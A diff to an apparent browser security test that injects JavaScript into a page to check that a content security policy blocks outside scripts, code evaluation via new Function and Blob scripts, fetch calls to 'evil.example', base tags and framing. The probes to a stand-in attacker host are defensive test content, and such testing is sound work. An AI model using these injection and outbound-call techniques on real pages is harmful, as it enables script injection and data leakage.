@@ -134,10 +134,10 @@ def tries(page):
           outside.src = "https://evil.example/script.js";
           outside.onload = () => worked.push("a script from outside");
           document.body.append(outside);
-          const evaluated = () => {
-            try { return new Function("return 1")(); } catch { return 0; }
-          };
-          if (evaluated()) worked.push("words as a function");
+          const evaluating = document.createElement("script"); // the driver's own words may
+          const words = new Blob(["window.worked = new Function('return 1')()"]);
+          evaluating.src = URL.createObjectURL(words);
+          document.body.append(evaluating);
           await fetch("https://evil.example/?told").then(
             () => worked.push("a fetch"), () => null);
           const base = document.createElement("base");
@@ -150,6 +150,7 @@ def tries(page):
           document.body.append(frame);
           await new Promise((resolve) => setTimeout(resolve, 1000));
           if (window.hit) worked.push("a script in the page");
+          if (window.worked) worked.push("words as a function");
           return worked;
         }"""
     )
@@ -241,4 +242,4 @@ def test_another_sites_pictures_and_frames_of_the_page_are_refused(chromium, add
         page.goto(site, wait_until="load")
         page.close()
     assert set(answers.values()) == {403}
-    assert {"image", "script"} <= set(answers)
+    assert "document" in answers  # pictures and scripts end before their answer is told
